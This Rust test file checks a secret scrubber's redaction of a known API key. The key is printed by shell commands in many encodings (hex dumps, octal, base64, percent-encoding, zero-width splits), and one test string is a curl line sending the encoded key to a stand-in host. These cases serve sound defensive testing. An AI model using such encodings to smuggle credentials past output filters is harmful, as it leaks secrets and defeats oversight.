//! Secrets known by value (`Scrubber::with_known_secrets`), attacked the way a command
//! the model runs would: the key is printed by real programs (`od`, `base64`, `sed`,
//! `fold`, `xxd`) in every encoding one command line produces, and none of it may
//! survive; text without the key must come out exactly as it went in.

use std::process::Command;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use oxydra_scrubbing::{MIN_KNOWN_SECRET_LEN, ScrubError, Scrubber};

const KEY: &str = "sk-proj-R8mKq2ZtW7vXy4Lp9Nd3Hs6Jf";
const NAME: &str = "OPENAI_API_KEY";

fn scrubber() -> Scrubber {
    Scrubber::new()
        .with_known_secrets([(NAME, KEY), ("MCP_TOKEN", "mcp-tok-00000000-abcdef")])
        .unwrap()
}

/// Runs `script` under `sh` with the key in `$K`, as a model's `shell_exec` would.
fn shell(script: &str) -> String {
    let output = Command::new("sh")
        .arg("-c")
        .arg(script)
        .env("K", KEY)
        .output()
        .unwrap();
    assert!(output.status.success(), "{script}: {output:?}");
    String::from_utf8(output.stdout).unwrap()
}

/// No part of the key that could identify it is left: not the key, not its last
/// eight characters, not its alphanumeric core; with entropy detection off too, so
/// the known value is what finds it.
fn assert_gone(label: &str, printed: &str) {
    let by_value = Scrubber::new()
        .with_entropy_detection(false)
        .with_known_secrets([(NAME, KEY)])
        .unwrap();
    for scrubber in [scrubber(), by_value] {
        let out = scrubber.scrub(printed);
        let text = out.text.as_ref();
        let tail = &KEY[KEY.len() - 8..];
        let compact: String = text.chars().filter(char::is_ascii_alphanumeric).collect();
        assert!(
            !text.contains(KEY) && !text.contains(tail) && !compact.contains(tail),
            "{label}: the key survived in\n{printed}\n-> {text}"
        );
        assert!(!out.redactions.is_empty(), "{label}");
    }
}

#[test]
fn every_encoding_a_command_line_prints_is_redacted() {
    let attacks = [
        ("plain", r#"printf '%s\n' "$K""#),
        ("spaced", r#"printf '%s' "$K" | sed 's/./& /g'"#),
        ("one character per line", r#"printf '%s' "$K" | fold -w1"#),
        ("split in fives", r#"printf '%s\n' "$K" | fold -w5"#),
        ("decimal bytes", r#"printf '%s' "$K" | od -An -tu1"#),
        ("octal bytes", r#"printf '%s' "$K" | od -An -to1"#),
        ("hex bytes", r#"printf '%s' "$K" | od -An -tx1"#),
        ("hex dump", r#"printf '%s' "$K" | xxd"#),
        ("canonical hex dump", r#"printf 'x%s' "$K" | od -Ax -tx1z"#),
        ("hex dump with offsets", r#"printf '%s' "$K" | od -tx1"#),
        ("plain hex", r#"printf '%s' "$K" | xxd -p"#),
        ("base64", r#"printf '%s' "$K" | base64"#),
        (
            "base64 of a line",
            r#"printf 'export KEY=%s\n' "$K" | base64 -w0"#,
        ),
        ("base64, shift 1", r#"printf 'x%s' "$K" | base64"#),
        ("base64, shift 2", r#"printf 'xy%s!' "$K" | base64 -w 20"#),
    ];
    for (label, script) in attacks {
        assert_gone(label, &shell(script));
    }
}

#[test]
fn encodings_no_program_on_the_machine_is_needed_for_are_redacted() {
    let bytes = KEY.as_bytes();
    let percent_all: String = bytes.iter().map(|b| format!("%{b:02X}")).collect();
    let percent_lower: String = bytes.iter().map(|b| format!("%{b:02x}")).collect();
    let escaped_hex: String = bytes.iter().map(|b| format!("\\x{b:02x}")).collect();
    let c_array: Vec<String> = bytes.iter().map(|b| format!("0x{b:02X}")).collect();
    let octal_escapes: String = bytes.iter().map(|b| format!("\\{b:o}")).collect();
    let decimal_list: Vec<String> = bytes.iter().map(u8::to_string).collect();
    let python_list: Vec<String> = KEY.chars().map(|c| format!("'{c}'")).collect();
    let cases = [
        (
            "percent, every byte",
            format!("curl 'https://x.test/?k={percent_all}'"),
        ),
        ("percent, lower case", percent_lower),
        ("\\x escapes", format!("b\"{escaped_hex}\"")),
        ("C array", format!("{{ {} }}", c_array.join(", "))),
        ("octal escapes", format!("$'{octal_escapes}'")),
        ("decimal list", format!("[{}]", decimal_list.join(","))),
        ("python list", format!("[{}]", python_list.join(", "))),
        (
            "url-safe base64",
            URL_SAFE_NO_PAD.encode(format!("{{\"k\":\"{KEY}\"}}")),
        ),
        (
            "JSON-escaped",
            serde_json::to_string(&serde_json::json!({ "k": KEY })).unwrap(),
        ),
        ("zero-width inside", KEY.replace('q', "q\u{200B}")),
        ("base64 with CRLF every 8", {
            let encoded = STANDARD.encode(KEY);
            let chunks: Vec<&str> = encoded
                .as_bytes()
                .chunks(8)
                .map(|c| std::str::from_utf8(c).unwrap())
                .collect();
            chunks.join("\r\n")
        }),
    ];
    for (label, printed) in cases {
        assert_gone(label, &printed);
    }
}

#[test]
fn text_without_the_secret_is_left_exactly_as_it_was() {
    let plain = Scrubber::new();
    let known = scrubber();
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut files = 0;
    for dir in ["src", "tests/it", "../types/src", "../executor/src"] {
        for entry in std::fs::read_dir(root.join(dir)).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|ext| ext == "rs") {
                let text = std::fs::read_to_string(&path).unwrap();
                if text.contains(KEY) {
                    continue;
                }
                files += 1;
                assert_eq!(
                    known.scrub(&text).text,
                    plain.scrub(&text).text,
                    "{} scrubbed differently with a known secret",
                    path.display()
                );
            }
        }
    }
    assert!(files > 40, "only {files} files read");
    // Hex dumps, digit runs and base64 of other things are not touched.
    for text in [
        "0000000 7363 6865 6d61 0a00 1122 3344 5566 7788 99aa bbcc ddee ff00",
        "115 107 45 112 114 111 106 45 82 56 109 75",
        "c2stcHJvai1SOG1LcTJa",
    ] {
        assert_eq!(known.scrub(text).text, plain.scrub(text).text, "{text}");
    }
}

#[test]
fn a_prefix_of_the_secret_is_not_enough_and_the_value_is_never_in_an_error() {
    let half = &KEY[..KEY.len() / 2];
    let out = Scrubber::new()
        .with_entropy_detection(false)
        .with_known_secrets([(NAME, KEY)])
        .unwrap()
        .scrub(half);
    assert!(out.redactions.is_empty(), "{:?}", out.redactions);

    let error = Scrubber::new()
        .with_known_secrets([("PIN", "1234567")])
        .unwrap_err();
    assert!(matches!(
        error,
        ScrubError::KnownSecretTooShort { ref name, length: 7, minimum } if name == "PIN" && minimum == MIN_KNOWN_SECRET_LEN
    ));
    assert!(!error.to_string().contains("1234567"), "{error}");
}

#[test]
fn the_redaction_covers_the_encoded_secret_exactly_however_far_into_the_text() {
    let spaced: String = KEY.chars().map(|c| format!("{c} ")).collect();
    let spaced = spaced.trim_end();
    let percent: String = KEY.bytes().map(|b| format!("%{b:02x}")).collect();
    for filler in [0, 1, 63, 64, 65, 200, 5000] {
        let before = format!("{} log line 12 of 99\n", "ab1 ".repeat(filler));
        for encoded in [spaced, percent.as_str()] {
            let text = format!("{before}{encoded} and after");
            let out = Scrubber::new()
                .with_entropy_detection(false)
                .with_known_secrets([(NAME, KEY)])
                .unwrap()
                .scrub(&text);
            assert_eq!(
                out.text,
                format!("{before}[REDACTED] and after"),
                "filler {filler}"
            );
        }
    }
}

#[test]
fn a_value_of_few_letters_and_digits_is_found_plain() {
    let value = "!#$%&*+-9a@b~";
    let scrubber = Scrubber::new()
        .with_entropy_detection(false)
        .with_known_secrets([("SYMBOLS", value)])
        .unwrap();
    let text = format!("pw={value};");
    assert_eq!(scrubber.scrub(&text).text, "pw=[REDACTED];");
}

#[test]
fn secrets_given_later_add_to_those_given_before() {
    // A scrubber handed on (serve's, with the service's keys) is given more (a run's
    // secret handles): both stay redacted.
    let first = Scrubber::new()
        .with_known_secrets([("FIRST", "first-Value-0123456789")])
        .unwrap();
    let both = first
        .with_known_secrets([("LATER", "later-Value-0123456789")])
        .unwrap();
    let text = "first-Value-0123456789 and later-Value-0123456789";
    let out = both.with_entropy_detection(false).scrub(text);
    assert_eq!(out.text, "[REDACTED] and [REDACTED]");
}
